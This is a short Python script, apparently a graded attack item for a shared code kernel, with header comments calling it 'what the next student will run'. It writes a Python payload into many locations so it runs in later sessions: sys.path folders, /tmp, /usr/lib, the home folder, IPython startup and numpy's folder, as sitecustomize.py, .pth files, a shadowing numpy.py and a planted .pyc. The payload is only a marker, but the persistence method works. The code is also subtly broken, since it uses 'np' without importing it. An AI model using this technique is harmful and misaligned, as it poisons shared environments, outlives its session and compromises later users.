# tries:    leave code for the next kernel: sitecustomize, .pth, startup files, caches, in every writable folder
# attack:   what the next student will run
# course:   both
# vanilla:  untried
# verdict:  graded
# score:    honest
# reason:
import os
import sys

text = "import builtins; builtins.poisoned = True; print('poisoned')"
places = [*filter(None, sys.path), "/", "/tmp", "/dev/shm", "/usr/lib", os.path.expanduser("~"), os.path.dirname(np.__file__)]
places += [os.path.expanduser(f"~/{name}") for name in (".ipython/profile_default/startup", ".keras", ".config/matplotlib")]
for folder in places:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "numpy.py", "00.py", "__pycache__/unroll.cpython-311.pyc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError:
            pass
